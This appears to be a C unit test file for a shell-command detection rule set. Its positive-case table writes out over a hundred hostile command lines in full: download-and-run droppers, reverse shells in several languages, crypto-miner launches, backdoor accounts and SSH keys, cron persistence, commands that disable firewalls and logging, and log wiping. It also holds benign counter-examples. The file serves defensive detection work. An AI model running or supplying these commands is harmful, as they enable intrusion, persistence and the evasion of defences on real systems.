/*
 * test_cmdrules.c - the command line rules against what intruders ran
 * (kinsing, TeamTNT, Outlaw, mirai droppers, xmrig installers, reverse
 * shell cheat sheets) and what admins and Debian's own cron jobs, units
 * and profile scripts run every day
 */
#include <stdlib.h>
#include <time.h>

#include "unit.h"
#include "report/report.h"
#include "rules/cmdrules.h"

#define NMATCH	CMDRULE__COUNT

/* Judge S from a buffer of exactly its length, so ASan sees overreads. */
static size_t
judge(const char *s, struct cmd_match *m)
{
	size_t	 len = strlen(s), n, i;
	char	*buf = malloc(len ? len : 1);

	if (buf == NULL)
		abort();
	memcpy(buf, s, len);
	n = cmd_judge(buf, len, m, NMATCH);
	for (i = 0; i < n && i < NMATCH; i++)
		if (m[i].off > len || m[i].len > len - m[i].off)
			n = (size_t)-1;
	free(buf);
	return n;
}

static bool
has_rule(const struct cmd_match *m, size_t n, enum cmd_rule r)
{
	size_t	i;

	for (i = 0; i < n && i < NMATCH; i++)
		if (m[i].rule == r)
			return true;
	return false;
}

static enum severity
worst(const struct cmd_match *m, size_t n)
{
	enum severity	w = SEV_INFO;
	size_t		i;

	for (i = 0; i < n && i < NMATCH; i++)
		if (cmd_rule_severity(m[i].rule) > w)
			w = cmd_rule_severity(m[i].rule);
	return w;
}

static void
show(const char *s, const struct cmd_match *m, size_t n)
{
	size_t	i;

	fprintf(stderr, "#   %s\n", s);
	for (i = 0; i < n && i < NMATCH; i++)
		fprintf(stderr, "#     -> %s (%s) at %zu+%zu\n",
		    cmd_rule_name(m[i].rule), m[i].detail, m[i].off, m[i].len);
}

struct bad {
	enum cmd_rule	 rule;
	const char	*line;
};

static const struct bad bad[] = {
	/* downloads run from raw IPs and drop sites */
	{ CMDRULE_DROPPER, "curl -fsSL http://203.0.113.9/x.sh | bash" },
	{ CMDRULE_DROPPER, "wget -q -O - http://198.51.100.7/ldr.sh | sh" },
	{ CMDRULE_DROPPER, "(curl -s http://194.40.243.206/d.sh||wget -q -O- "
	    "http://194.40.243.206/d.sh)|bash" },
	{ CMDRULE_DROPPER, "cd /tmp || cd /var/run || cd /mnt || cd /root || "
	    "cd /; wget http://185.244.25.145/bins.sh; chmod 777 bins.sh; sh "
	    "bins.sh; tftp 185.244.25.145 -c get tftp1.sh; chmod 777 tftp1.sh; "
	    "sh tftp1.sh" },
	{ CMDRULE_DROPPER, "busybox wget http://203.0.113.5/mips -O /tmp/mips;"
	    " chmod +x /tmp/mips; /tmp/mips" },
	{ CMDRULE_DROPPER, "bash <(curl -s http://203.0.113.9/i.sh)" },
	{ CMDRULE_DROPPER, "sh -c \"wget -O- http://pastebin.com/raw/abc123 | "
	    "sh\"" },
	{ CMDRULE_DROPPER, "curl -s https://pastebin.com/raw/XyZ | bash" },
	{ CMDRULE_DROPPER, "curl -fsSL https://transfer.sh/abc/x.sh | sh" },
	{ CMDRULE_DROPPER, "wget https://0x0.st/abcd.sh -O- | bash" },
	{ CMDRULE_DROPPER, "cd /tmp; wget http://203.0.113.1/x86; chmod +x "
	    "x86; ./x86 ssh.exploit" },
	{ CMDRULE_DROPPER, "sudo sh -c 'curl -s http://203.0.113.9/a | sh'" },
	{ CMDRULE_DROPPER, "su -c \"wget -qO- http://203.0.113.9/x | sh\" "
	    "root" },
	{ CMDRULE_DROPPER, "eval \"$(wget -qO- http://203.0.113.9/x)\"" },
	{ CMDRULE_DROPPER, "wget -q http://198.51.100.3/.s -O /dev/shm/.s && "
	    "sh /dev/shm/.s" },
	{ CMDRULE_DROPPER, "curl 203.0.113.9/x.sh|sh" },
	{ CMDRULE_DROPPER, "curl http://3405803785/x.sh | sh" },
	{ CMDRULE_DROPPER, "curl -Lk http://45.9.148.35/chimaera/sh/setup.sh "
	    "| bash" },
	{ CMDRULE_DROPPER, "/usr/bin/curl -s http://203.0.113.9/x|/bin/sh" },
	{ CMDRULE_DROPPER, "c''url -s http://203.0.113.9/x | b\"\"ash" },
	{ CMDRULE_DROPPER, "$'\\x63\\x75\\x72\\x6c' http://203.0.113.9/x | "
	    "sh" },
	{ CMDRULE_DROPPER, "sh <(wget -qO- http://203.0.113.9/i)" },
	{ CMDRULE_DROPPER, "curl -s http://203.0.113.9/x > /tmp/x; chmod +x "
	    "/tmp/x; /tmp/x" },
	{ CMDRULE_DROPPER, "nohup $(curl -s http://203.0.113.9/x | bash) "
	    ">/dev/null 2>&1 &" },
	{ CMDRULE_DROPPER, "timeout 30 env -i wget -qO- "
	    "https://abc.ngrok-free.app/p | python3" },
	{ CMDRULE_DROPPER, "$(eval \"$(eval \"$(eval \"$(curl "
	    "http://203.0.113.9/x|sh)\")\")\")" },
	{ CMDRULE_DOWNLOAD_EXEC, "curl -o /tmp/x http://example.net/x && "
	    "chmod +x /tmp/x && /tmp/x" },
	{ CMDRULE_DOWNLOAD_EXEC, "bash -c \"$(curl -fsSL "
	    "http://evil.example/i.sh)\"" },
	{ CMDRULE_DOWNLOAD_EXEC, "python -c \"import urllib;exec(urllib."
	    "urlopen('http://evil.example/x.py').read())\"" },
	{ CMDRULE_DOWNLOAD_EXEC, "curl -sL http://example.org/i.sh | sudo -E "
	    "bash -" },
	{ CMDRULE_FETCH_DROP_SITE, "curl http://abc123.ngrok.io/payload -o "
	    "/tmp/p" },
	{ CMDRULE_FETCH_RAW_IP, "wget http://203.0.113.77/xmrig.tar.gz" },
	{ CMDRULE_FETCH_RAW_IP, "lwp-download http://203.0.113.9/x /tmp/x" },
	/* decoded payloads */
	{ CMDRULE_DECODE_EXEC, "echo \"Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveC"
	    "5zaCB8IGJhc2g=\" | base64 -d | bash" },
	{ CMDRULE_DECODE_EXEC, "echo aWQ= | base64 --decode | sh" },
	{ CMDRULE_DECODE_EXEC, "eval \"$(echo ZWNobyBoaQ== | base64 -d)\"" },
	{ CMDRULE_DECODE_EXEC, "xxd -r -p payload.hex | sh" },
	{ CMDRULE_DECODE_EXEC, "openssl enc -d -aes-256-cbc -in x.enc -k pass "
	    "| bash" },
	{ CMDRULE_DECODE_EXEC, "python3 -c 'import base64;exec(base64."
	    "b64decode(\"aW1wb3J0IG9z\"))'" },
	{ CMDRULE_DECODE_EXEC, "bash -c \"$(echo aWQ= | base64 -d)\"" },
	{ CMDRULE_DECODE_EXEC, "base64 -d <<< ZWNobyBoaQ== | sh" },
	{ CMDRULE_DECODE_EXEC, "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC"
	    "4wLjAuMS80NDQ0IDA+JjE=}|{base64,-d}|{bash,-i}" },
	/* reverse shells */
	{ CMDRULE_REVERSE_SHELL, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" },
	{ CMDRULE_REVERSE_SHELL, "sh -i >& /dev/udp/10.0.0.1/4242 0>&1" },
	{ CMDRULE_REVERSE_SHELL, "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh "
	    "<&196 >&196 2>&196" },
	{ CMDRULE_REVERSE_SHELL, "nc -e /bin/sh 10.0.0.1 4242" },
	{ CMDRULE_REVERSE_SHELL, "ncat 10.0.0.1 4242 -e /bin/bash" },
	{ CMDRULE_REVERSE_SHELL, "nc -lvnp 4444 -e /bin/bash" },
	{ CMDRULE_REVERSE_SHELL, "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh "
	    "-i 2>&1|nc 10.0.0.1 4242 >/tmp/f" },
	{ CMDRULE_REVERSE_SHELL, "mknod /tmp/backpipe p && /bin/sh "
	    "0</tmp/backpipe | nc 10.0.0.1 4444 1>/tmp/backpipe" },
	{ CMDRULE_REVERSE_SHELL, "socat tcp-connect:10.0.0.1:4242 exec:/bin/"
	    "sh,pty,stderr,setsid,sigint,sane" },
	{ CMDRULE_REVERSE_SHELL, "socat TCP:10.0.0.1:4444 EXEC:'bash -li',pty,"
	    "stderr" },
	{ CMDRULE_REVERSE_SHELL, "python -c 'import socket,subprocess,os;s=so"
	    "cket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0."
	    "0.1\",4242));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2"
	    "(s.fileno(),2);import pty; pty.spawn(\"/bin/bash\")'" },
	{ CMDRULE_REVERSE_SHELL, "python3 -c 'import os,pty,socket;s=socket."
	    "socket();s.connect((\"10.0.0.1\",4242));[os.dup2(s.fileno(),f)for"
	    " f in(0,1,2)];pty.spawn(\"sh\")'" },
	{ CMDRULE_REVERSE_SHELL, "perl -e 'use Socket;$i=\"10.0.0.1\";$p=4242"
	    ";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect"
	    "(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOU"
	    "T,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'" },
	{ CMDRULE_REVERSE_SHELL, "php -r '$sock=fsockopen(\"10.0.0.1\",4242);"
	    "exec(\"/bin/sh -i <&3 >&3 2>&3\");'" },
	{ CMDRULE_REVERSE_SHELL, "ruby -rsocket -e'f=TCPSocket.open(\"10.0.0."
	    "1\",4242).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)"
	    "'" },
	{ CMDRULE_REVERSE_SHELL, "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242"
	    "\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c)"
	    "{ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c"
	    " != \"exit\") close(s); }}' /dev/null" },
	{ CMDRULE_REVERSE_SHELL, "telnet 10.0.0.1 4242 | /bin/sh | telnet "
	    "10.0.0.1 4243" },
	{ CMDRULE_REVERSE_SHELL, "nohup bash -c 'bash -i >& /dev/tcp/"
	    "203.0.113.9/443 0>&1' &" },
	{ CMDRULE_REVERSE_SHELL, "bash -c 'exec bash -i &>/dev/tcp/203.0.113."
	    "9/1337 <&1'" },
	{ CMDRULE_REVERSE_SHELL, "node -e 'var net=require(\"net\"),cp=require"
	    "(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);'" },
	/* miners and known malware */
	{ CMDRULE_MINER, "./xmrig -o pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ4N"
	    "MDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2"
	    "wfn3RVGQBEP3A -p x" },
	{ CMDRULE_MINER, "/tmp/.x/xmr -o stratum+tcp://xmr.pool.example:3333 "
	    "-u wallet -p x --donate-level 1" },
	{ CMDRULE_MINER, "wget https://github.com/xmrig/xmrig/releases/downloa"
	    "d/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz" },
	{ CMDRULE_MINER, "cpuminer -a cryptonight -o stratum+tcp://pool.suppor"
	    "txmr.com:5555" },
	{ CMDRULE_MINER, "./t-rex -a ethash -o stratum+tcp://eth.2miners.com:"
	    "2020 -u 0xabc -p x" },
	{ CMDRULE_MINER, "nohup ./sysd -o gulf.moneroocean.stream:10128 -u 4x "
	    "-p w >/dev/null 2>&1 &" },
	{ CMDRULE_MINER, "/var/tmp/.x/kworker -o 203.0.113.9:3333 -u worker1 "
	    "-k --tls" },
	{ CMDRULE_MINER, "echo '{\"url\": \"pool.hashvault.pro:80\"}' > "
	    "config.json" },
	{ CMDRULE_MALWARE_NAME, "nohup ./kdevtmpfsi &" },
	{ CMDRULE_MALWARE_NAME, "cd ~ && rm -rf .configrc && tar xf "
	    "dota3.tar.gz && cd .configrc/a && nohup ./init0 &" },
	{ CMDRULE_KILL_RIVAL, "pkill -f kdevtmpfsi" },
	{ CMDRULE_KILL_RIVAL, "ps aux | grep -v grep | grep 'xmrig' | awk "
	    "'{print $2}' | xargs kill -9" },
	{ CMDRULE_KILL_RIVAL, "killall -9 minerd xmrig kinsing" },
	{ CMDRULE_KILL_RIVAL, "kill -9 $(pidof kinsing)" },
	/* accounts, keys, cron */
	{ CMDRULE_USER_UID0, "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash "
	    "backdoor" },
	{ CMDRULE_USER_UID0, "usermod -G root hacker" },
	{ CMDRULE_PASSWD_WRITE, "echo \"hacker:x:0:0::/root:/bin/bash\" >> "
	    "/etc/passwd" },
	{ CMDRULE_PASSWORD_SET, "echo 'root:P@ssw0rd' | chpasswd" },
	{ CMDRULE_PASSWORD_SET, "echo -e \"toor\\ntoor\" | passwd root" },
	{ CMDRULE_SSH_KEY_ADD, "echo \"ssh-rsa AAAAB3NzaC1yc2E attacker@kali\""
	    " >> /root/.ssh/authorized_keys" },
	{ CMDRULE_SSH_KEY_ADD, "curl -s http://203.0.113.9/k.pub >> ~/.ssh/"
	    "authorized_keys" },
	{ CMDRULE_SSH_KEY_ADD, "curl -fsSL http://203.0.113.9/key -o /root/"
	    ".ssh/authorized_keys" },
	{ CMDRULE_CRON_WRITE, "(crontab -l 2>/dev/null; echo \"*/5 * * * * "
	    "curl -fsSL http://203.0.113.9/cr.sh | sh\") | crontab -" },
	{ CMDRULE_CRON_WRITE, "echo \"* * * * * root /tmp/.x/run\" >> "
	    "/etc/crontab" },
	{ CMDRULE_CRON_WRITE, "echo \"*/10 * * * * wget -q -O- http://pasteb"
	    "in.com/raw/x | sh\" | crontab -" },
	{ CMDRULE_CRON_WRITE, "crontab /tmp/.c" },
	{ CMDRULE_CRON_WRITE, "wget -O /etc/cron.d/update http://203.0.113.9/"
	    "c" },
	{ CMDRULE_SUDOERS_WRITE, "echo 'hacker ALL=(ALL) NOPASSWD:ALL' >> "
	    "/etc/sudoers" },
	{ CMDRULE_CHATTR, "chattr +i /root/.ssh/authorized_keys" },
	{ CMDRULE_CHATTR, "chattr -ia /etc/crontab" },
	/* defences */
	{ CMDRULE_FIREWALL_OFF, "iptables -F" },
	{ CMDRULE_FIREWALL_OFF, "iptables -P INPUT ACCEPT" },
	{ CMDRULE_FIREWALL_OFF, "ufw disable" },
	{ CMDRULE_FIREWALL_OFF, "systemctl stop firewalld && systemctl "
	    "disable firewalld" },
	{ CMDRULE_FIREWALL_OFF, "nft flush ruleset" },
	{ CMDRULE_SELINUX_OFF, "setenforce 0" },
	{ CMDRULE_SELINUX_OFF, "sed -i 's/SELINUX=enforcing/SELINUX=disabled/"
	    "g' /etc/selinux/config" },
	{ CMDRULE_SELINUX_OFF, "systemctl stop apparmor" },
	{ CMDRULE_LOGGING_OFF, "systemctl stop rsyslog" },
	{ CMDRULE_LOGGING_OFF, "service auditd stop" },
	{ CMDRULE_LOGGING_OFF, "auditctl -e 0" },
	{ CMDRULE_LOGGING_OFF, "systemctl mask systemd-journald" },
	{ CMDRULE_LOGGING_OFF, "pkill -9 rsyslogd" },
	{ CMDRULE_SECURITY_OFF, "systemctl stop aliyun.service" },
	{ CMDRULE_SECURITY_OFF, "curl http://update.aegis.aliyun.com/download"
	    "/uninstall.sh | bash" },
	{ CMDRULE_SECURITY_OFF, "rm -rf /usr/local/aegis" },
	/* covering tracks */
	{ CMDRULE_HISTORY_OFF, "unset HISTFILE" },
	{ CMDRULE_HISTORY_OFF, "export HISTFILE=/dev/null" },
	{ CMDRULE_HISTORY_OFF, "history -c" },
	{ CMDRULE_HISTORY_OFF, "export HISTSIZE=0" },
	{ CMDRULE_HISTORY_OFF, "set +o history" },
	{ CMDRULE_HISTORY_OFF, "ln -sf /dev/null ~/.bash_history" },
	{ CMDRULE_HISTORY_OFF, "HISTFILE=/dev/null" },
	{ CMDRULE_LOG_WIPE, "rm -rf /var/log/*" },
	{ CMDRULE_LOG_WIPE, "echo > /var/log/auth.log" },
	{ CMDRULE_LOG_WIPE, "cat /dev/null > /var/log/wtmp" },
	{ CMDRULE_LOG_WIPE, "> /var/log/lastlog" },
	{ CMDRULE_LOG_WIPE, "truncate -s 0 /var/log/secure" },
	{ CMDRULE_LOG_WIPE, "rm -f ~/.bash_history" },
	{ CMDRULE_LOG_WIPE, "dd if=/dev/zero of=/var/log/wtmp bs=1 count=0" },
	{ CMDRULE_LOG_WIPE, "sed -i '/203.0.113.9/d' /var/log/auth.log" },
	{ CMDRULE_COVER_TRACKS, "unset HISTFILE; rm -rf /var/log/wtmp "
	    "/var/log/btmp" },
	{ CMDRULE_COVER_TRACKS, "history -c && echo > ~/.bash_history" },
	{ CMDRULE_SHRED_LOGS, "shred -u -z /var/log/auth.log" },
	{ CMDRULE_SHRED, "shred -n 3 /root/secret.tar" },
	{ CMDRULE_TIMESTOMP, "touch -r /bin/ls /usr/bin/.backdoor" },
	{ CMDRULE_TIMESTOMP, "touch -d \"2019-01-01 10:00\" /usr/sbin/sshd" },
	/* backdoors */
	{ CMDRULE_SUID_SHELL, "cp /bin/bash /tmp/.rootbash; chmod u+s "
	    "/tmp/.rootbash" },
	{ CMDRULE_SHELL_COPY, "cp /bin/bash /tmp/.rootbash; chmod u+s "
	    "/tmp/.rootbash" },
	{ CMDRULE_SUID_SHELL, "chmod 4755 /bin/bash" },
	{ CMDRULE_SUID_SHELL, "chmod +s /tmp/sh" },
	{ CMDRULE_KMOD_TEMP, "insmod /tmp/.r/diamorphine.ko" },
	{ CMDRULE_LD_PRELOAD, "echo /usr/local/lib/libprocesshider.so >> "
	    "/etc/ld.so.preload" },
	{ CMDRULE_LD_PRELOAD, "LD_PRELOAD=/dev/shm/.l.so /bin/ls" },
	{ CMDRULE_LD_PRELOAD, "export LD_PRELOAD=/tmp/.x/hook.so" },
	{ CMDRULE_TEMP_EXEC, "/dev/shm/.x/kthreadd -B" },
	{ CMDRULE_TEMP_EXEC, "nohup /var/tmp/.ICE-unix/.x/run >/dev/null "
	    "2>&1 &" },
	{ CMDRULE_TEMP_EXEC, "cd /usr/lib/.sys && ./.b -d" },
};

TEST(cmdrules_malicious)
{
	struct cmd_match	m[NMATCH];
	size_t			i, n, fails = 0;

	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		n = judge(bad[i].line, m);
		if (n == (size_t)-1 || !has_rule(m, n, bad[i].rule)) {
			fprintf(stderr, "# want %s:\n",
			    cmd_rule_name(bad[i].rule));
			show(bad[i].line, m, n == (size_t)-1 ? 0 : n);
			fails++;
		}
	}
	ASSERT(sizeof(bad) / sizeof(bad[0]) >= 80);
	ASSERT_INT(fails, 0);
}

static const char *const good[] = {
	"apt install nginx",
	"apt-get update && apt-get upgrade -y",
	"systemctl restart nginx",
	"systemctl status sshd",
	"vim /etc/nginx/nginx.conf",
	"git pull",
	"git clone https://github.com/torvalds/linux.git",
	"curl https://example.com/api -o out.json",
	"curl -s https://api.github.com/repos/x/y/releases/latest | jq -r "
	    ".tag_name",
	"wget https://github.com/prometheus/node_exporter/releases/download/"
	    "v1.7.0/node_exporter-1.7.0.linux-amd64.tar.gz",
	"tar xzf node_exporter-1.7.0.linux-amd64.tar.gz",
	"./configure && make && sudo make install",
	"docker run -d -p 80:80 nginx",
	"tail -f /var/log/syslog",
	"rm -rf build/",
	"history | grep ssh",
	"crontab -l",
	"crontab -e",
	"useradd -m deploy",
	"curl -fsSL https://get.docker.com -o get-docker.sh",
	"sudo sh get-docker.sh",
	"wget -qO- https://deb.nodesource.com/setup_20.x | sudo -E bash -",
	"curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
	"curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/"
	    "install.sh | bash",
	"grep -r \"nc -e\" .",
	"echo 'unset HISTFILE' # note",
	"echo \"curl http://203.0.113.9/x | sh\"",
	"apt purge netcat",
	"man socat",
	"man nc",
	"vim /etc/crontab",
	"systemctl restart rsyslog",
	"journalctl -u ssh",
	"rm -rf /var/log/nginx/*.gz",
	"touch -d yesterday foo.txt",
	"touch -r Makefile.in Makefile",
	"ls -la /tmp",
	"ssh user@10.0.0.5",
	"scp file user@host:/tmp/",
	"ps aux | grep nginx",
	"ps aux | grep xmrig",
	"kill -9 12345",
	"pkill -f gunicorn",
	"iptables -L -n",
	"iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
	"ufw allow 22/tcp",
	"ufw enable",
	"nft list ruleset",
	"getenforce",
	"export PATH=$PATH:/usr/local/go/bin",
	"export HISTSIZE=10000",
	"HISTCONTROL=ignoreboth",
	"HISTSIZE=1000",
	"chmod +x deploy.sh",
	"chmod -R u+w .",
	"chown -R www-data:www-data /var/www",
	"cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys",
	"passwd",
	"sudo -i",
	"su - postgres",
	"python3 -m venv .venv && . .venv/bin/activate",
	".venv/bin/pip install -r requirements.txt",
	"~/.local/bin/poetry install",
	"make -j$(nproc)",
	"du -sh /var/log/*",
	"curl http://localhost:8080/health",
	"curl http://127.0.0.1:9200/_cat/indices",
	"curl -X POST -H 'Content-Type: application/json' -d '{\"a\":1}' "
	    "http://10.0.0.12:8080/api",
	"wget -O- https://example.com/data.json | jq .",
	"curl -s https://example.com/x.json | python3 -m json.tool",
	"docker exec -it web bash",
	"openssl s_client -connect example.com:443 -servername example.com "
	    "< /dev/null",
	"base64 -d secret.b64 > secret.txt",
	"echo dGVzdA== | base64 -d",
	"nc -zv 10.0.0.5 22",
	"timeout 1 bash -c '</dev/tcp/10.0.0.5/22' && echo open",
	"/etc/init.d/nginx restart",
	"find /var/log -name \"*.gz\" -mtime +30 -delete",
	"journalctl --vacuum-time=7d",
	"test -x /usr/sbin/anacron || ( cd / && run-parts --report "
	    "/etc/cron.daily )",
	"[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; "
	    "then /usr/lib/php/sessionclean; fi",
	"command -v debian-sa1 > /dev/null && debian-sa1 1 1",
	"test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-"
	    "gnu/e2fsprogs/e2scrub_all_cron",
	"-/usr/sbin/cron -f $EXTRA_OPTS",
	"/usr/sbin/rsyslogd -n -iNONE",
	"/bin/kill -HUP $MAINPID",
	"if [ \"$(id -u)\" -eq 0 ]; then PATH=\"/usr/local/sbin:/usr/local/bin"
	    ":/usr/sbin:/usr/bin:/sbin:/bin\"; fi",
	"for i in /etc/profile.d/*.sh; do if [ -r $i ]; then . $i; fi; done",
	"[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"",
	"test -r ~/.dircolors && eval \"$(dircolors -b ~/.dircolors)\" || eval "
	    "\"$(dircolors -b)\"",
	"case $- in *i*) ;; *) return;; esac",
	"cp -p /etc/$FILE $FILE.bak && chmod 600 $FILE.bak",
	"chattr +i /etc/resolv.conf",
	"lsattr /etc/passwd",
	"less /var/log/auth.log",
	"grep 'Failed password' /var/log/auth.log | wc -l",
	"last -f /var/log/wtmp",
	"echo \"deb https://download.docker.com/linux/debian bookworm stable\" "
	    "| sudo tee /etc/apt/sources.list.d/docker.list",
	"curl -fsSL https://download.docker.com/linux/debian/gpg | sudo gpg "
	    "--dearmor -o /etc/apt/keyrings/docker.gpg",
	"sudo usermod -aG docker $USER",
	"bash install.sh",
	"perl -pi -e 's/foo/bar/' file.txt",
	"python3 -c 'import socket; print(socket.gethostname())'",
	"awk '{print $1}' access.log | sort | uniq -c",
	"sed -i 's/old/new/' config.yml",
	"nohup python3 app.py > app.log 2>&1 &",
	"openssl enc -d -aes-256-cbc -in backup.enc -out backup.tar",
	"dd if=/dev/zero of=/swapfile bs=1M count=2048",
	"truncate -s 10G disk.img",
	": > /var/log/nginx/access.log",
	"shopt -s histappend",
	"grep -rn 'stratum+tcp' /etc",
	"find / -name '*xmrig*' 2>/dev/null",
	"apt-cache search minerd",
	"git commit -m 'block bash -i >& /dev/tcp in waf'",
	"docker pull redis:7",
	"/usr/lib/apt/apt.systemd.daily",
	"exec /usr/lib/apt/apt.systemd.daily",
	"ln -s /etc/nginx/sites-available/site /etc/nginx/sites-enabled/",
	/* Debian's own cron jobs and logrotate scripts, certbot, acme.sh */
	"test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e "
	    "'sleep int(rand(43200))' && certbot -q renew",
	"\"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > "
	    "/dev/null",
	"systemctl kill -s HUP rsyslog.service",
	"pkill -HUP rsyslogd",
	"invoke-rc.d rsyslog rotate > /dev/null",
	"find /var/cache/man -type f -name '*.gz' -atime +6 -print0 | xargs "
	    "-r0 rm -f",
	"~/.dropbox-dist/dropboxd",
	"bash ~/.bashrc",
	"[ -s /run/nginx.pid ] && kill -USR1 `cat /run/nginx.pid`",
	"/usr/sbin/logrotate /etc/logrotate.conf",
};

TEST(cmdrules_benign)
{
	struct cmd_match	m[NMATCH];
	size_t			i, n, fails = 0;

	for (i = 0; i < sizeof(good) / sizeof(good[0]); i++) {
		n = judge(good[i], m);
		if (n == (size_t)-1 || worst(m, n) >= SEV_MEDIUM) {
			fprintf(stderr, "# want nothing of medium or more:\n");
			show(good[i], m, n == (size_t)-1 ? 0 : n);
			fails++;
		}
	}
	ASSERT(sizeof(good) / sizeof(good[0]) >= 80);
	ASSERT_INT(fails, 0);
}

/* What admins do that is worth a low note, and no more. */
TEST(cmdrules_low)
{
	struct cmd_match	m[NMATCH];
	size_t			n;

	n = judge("curl -fsSL https://get.docker.com | sh", m);
	ASSERT(has_rule(m, n, CMDRULE_VENDOR_INSTALL));
	ASSERT_INT(worst(m, n), SEV_LOW);
	n = judge("export HISTCONTROL=ignorespace", m);
	ASSERT(has_rule(m, n, CMDRULE_HISTORY_IGNORE));
	ASSERT_INT(worst(m, n), SEV_LOW);
	n = judge("useradd -m -G sudo -s /bin/bash support", m);
	ASSERT(has_rule(m, n, CMDRULE_USER_ADD));
	ASSERT_INT(worst(m, n), SEV_LOW);
	n = judge("rm -rf /var/log/nginx/*.gz", m);
	ASSERT(has_rule(m, n, CMDRULE_LOG_CLEANUP));
	n = judge("timeout 1 bash -c '</dev/tcp/10.0.0.5/22'", m);
	ASSERT(has_rule(m, n, CMDRULE_DEV_TCP));
	ASSERT(!has_rule(m, n, CMDRULE_REVERSE_SHELL));
	n = judge("passwd root", m);
	ASSERT(has_rule(m, n, CMDRULE_ROOT_PASSWD));
	ASSERT_INT(worst(m, n), SEV_LOW);
	n = judge("chmod 4755 /usr/local/bin/mytool", m);
	ASSERT(has_rule(m, n, CMDRULE_SETUID));
	ASSERT_INT(worst(m, n), SEV_LOW);
}

TEST(cmdrules_spans)
{
	struct cmd_match	m[NMATCH];
	const char		*s = "ls; curl -s http://203.0.113.9/x | sh";
	size_t			n, i;

	n = judge(s, m);
	ASSERT(n >= 2);
	for (i = 0; i < n; i++)
		if (m[i].rule == CMDRULE_FETCH_RAW_IP) {
			ASSERT_INT(m[i].off, 12);
			ASSERT_INT(m[i].len, strlen("http://203.0.113.9/x"));
		}
	/* inside bash -c: the whole quoted word */
	s = "x; bash -c 'nc -e /bin/sh 10.0.0.1 1'";
	n = judge(s, m);
	ASSERT(has_rule(m, n, CMDRULE_REVERSE_SHELL));
	for (i = 0; i < n; i++)
		if (m[i].rule == CMDRULE_REVERSE_SHELL) {
			ASSERT_INT(m[i].off, 11);
			ASSERT_INT(m[i].len, strlen(s) - 11);
		}
	/* MAX caps what is written, not what is counted */
	n = cmd_judge("unset HISTFILE; rm -f /var/log/wtmp", 35, m, 1);
	ASSERT(n >= 3);
	ASSERT_INT(cmd_judge("", 0, m, NMATCH), 0);
	ASSERT_INT(cmd_judge(NULL, 0, m, NMATCH), 0);
}

TEST(cmdrules_names)
{
	size_t	r, k;

	ASSERT_STR(cmd_rule_name(CMDRULE_DOWNLOAD_EXEC), "download_exec");
	ASSERT_INT(cmd_rule_severity(CMDRULE_REVERSE_SHELL), SEV_HIGH);
	ASSERT_INT(cmd_rule_severity(CMDRULE_VENDOR_INSTALL), SEV_LOW);
	for (r = 0; r < CMDRULE__COUNT; r++) {
		const char *n = cmd_rule_name((enum cmd_rule)r);

		ASSERT(strspn(n, "abcdefghijklmnopqrstuvwxyz_0123456789") ==
		    strlen(n));
		ASSERT(strlen(cmd_rule_summary((enum cmd_rule)r)) > 10);
		for (k = 0; k < r; k++)
			ASSERT(strcmp(n, cmd_rule_name((enum cmd_rule)k)));
	}
}

TEST(cmdrules_helpers)
{
	struct cmd_url	u;
	const char	*s = "get ftp://user:pw@[2001:db8::1]:21/x and "
	    "http://example.com:8080/a?b";
	size_t		pos = 0;

	ASSERT(cmd_is_temp_path("/tmp/x"));
	ASSERT(cmd_is_temp_path("//dev/shm/.x/y"));
	ASSERT(cmd_is_temp_path("/var/tmp"));
	ASSERT(cmd_is_temp_path("/usr/lib/.x/run"));
	ASSERT(cmd_is_temp_path("/root/.configrc/a/run"));
	ASSERT(!cmd_is_temp_path("/tmpfoo/x"));
	ASSERT(!cmd_is_temp_path("/usr/bin/ls"));
	ASSERT(!cmd_is_temp_path("/home/u/.local/bin/x"));
	ASSERT(!cmd_is_temp_path("/usr/../bin/x"));
	ASSERT(!cmd_is_temp_path("tmp/x"));
	ASSERT(host_is_raw_ip("203.0.113.9"));
	ASSERT(host_is_raw_ip("3405803785"));
	ASSERT(host_is_raw_ip("0x7f.1"));
	ASSERT(host_is_raw_ip("[::1]"));
	ASSERT(host_is_raw_ip("2001:db8::1"));
	ASSERT(!host_is_raw_ip("example.com"));
	ASSERT(!host_is_raw_ip("1.2.3.4.5"));
	ASSERT(!host_is_raw_ip("256.1.1.1"));
	ASSERT(!host_is_raw_ip("1.2.3.4x"));
	ASSERT(!host_is_raw_ip(""));
	ASSERT(cmd_url_next(s, strlen(s), &pos, &u));
	ASSERT_INT(u.off, 4);
	ASSERT_INT(u.scheme_len, 3);
	ASSERT(strncmp(s + u.host_off, "[2001:db8::1]", u.host_len) == 0);
	ASSERT_INT(u.host_len, 13);
	ASSERT(cmd_url_next(s, strlen(s), &pos, &u));
